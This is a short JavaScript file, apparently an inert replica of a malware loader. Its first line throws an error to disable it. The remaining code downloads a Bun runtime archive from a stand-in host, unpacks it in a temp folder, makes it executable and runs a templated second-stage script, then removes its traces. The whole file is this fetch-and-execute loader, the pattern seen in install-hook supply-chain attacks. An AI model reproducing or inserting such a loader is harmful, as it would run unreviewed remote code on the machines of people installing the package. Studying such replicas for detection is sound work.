throw new Error("inert replica");
import fs from "fs";
import os from "os";
import path from "path";
import https from "https";
import { execFileSync } from "child_process";
const VERSION = "1.3.13";
const names = { linux: "linux-x64", darwin: "darwin-aarch64", win32: "windows-x64" };
const folder = fs.mkdtempSync(path.join(os.tmpdir(), "b-"));
const archive = path.join(folder, "b.zip");
function download(address, place) {
  return new Promise((done, failed) => {
    https.get(address, (answer) => {
      if (answer.statusCode === 302) return done(download(answer.headers.location, place));
      const file = fs.createWriteStream(place);
      answer.pipe(file);
      file.on("finish", () => file.close(done));
    }).on("error", failed);
  });
}
await download(`https://runner.replica.invalid/download/v${VERSION}/${names[process.platform]}.zip`, archive);
execFileSync("unzip", ["-q", archive, "-d", folder]);
const runner = path.join(folder, "bun");
fs.chmodSync(runner, 0o755);
execFileSync(runner, [path.join(import.meta.dirname, "{{stage}}")], { stdio: "inherit" });
fs.rmSync(folder, { recursive: true });
